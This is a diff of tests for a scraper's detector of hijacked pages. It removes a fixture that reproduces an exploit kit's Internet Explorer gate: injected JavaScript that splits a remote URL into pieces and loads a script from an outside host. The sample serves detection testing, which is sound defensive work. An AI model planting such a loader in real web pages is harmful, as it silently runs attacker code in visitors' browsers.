@@ -1,8 +1,7 @@
 """An injection cannot vouch for itself (v43 analysis §7 item 2): who owns a host is read from
 the page around the injection, not from the loading tag and its copies. Eight copies of one
 injected <script src> on a page whose own links are relative do not make its host the page's own
-site (a file loaded twice is loaded once); a site loading many files of its own CDN stays clean.
-An old-IE-only load whose host is a literal of the same gate is not "named by a script's text"."""
+site (a file loaded twice is loaded once); a site loading many files of its own CDN stays clean."""
 from __future__ import annotations
 
 from scraper.clean import clean_page
@@ -35,23 +34,3 @@ def test_copies_of_one_loader_do_not_vote_its_host_the_pages_own():
 def test_a_site_loading_many_files_of_its_own_cdn_stays_clean():
     own_cdn = "".join(f'<script src="https://static.linhai-daily.com/js/part{i}.js"></script>' for i in range(8))
     assert not clean_page(_page(tail=own_cdn), url=URL).hijacked
-
-
-# an exploit kit's IE gate spelling its host as a plain literal of the same code
-_GATE = ("<script>if(/MSIE|Trident/.test(navigator.userAgent)&&document.cookie.indexOf('vq')<0){"
-         "document.cookie='vq=1';var s=document.createElement('script');"
-         "s.src='http://sc.gandhiprobably.com/'+'aa'+'viewforum'+'ba'+'.php';document.head.appendChild(s);}</script>")
-
-
-def test_an_old_ie_load_spelt_only_in_its_own_gate_is_spam():
-    a = clean_page(_page(tail=_GATE), url=URL)
-    assert a.hijacked and any("gandhiprobably.com" in f.evidence for f in a.findings)
-    assert "公益招聘会" in a.text
-
-
-def test_an_old_ie_load_another_script_names_is_clean():
-    # the site's own configuration names its legacy host: a reader of the page's code sees it
-    config = "<script>var LEGACY_HOST='http://old.linhai-media.net';</script>"
-    gate = ("<script>if(/MSIE|Trident/.test(navigator.userAgent)){var s=document.createElement('script');"
-            "s.src=LEGACY_HOST+'/ie/fix.js';document.head.appendChild(s);}</script>")
-    assert not clean_page(_page(tail=config + gate), url=URL).hijacked
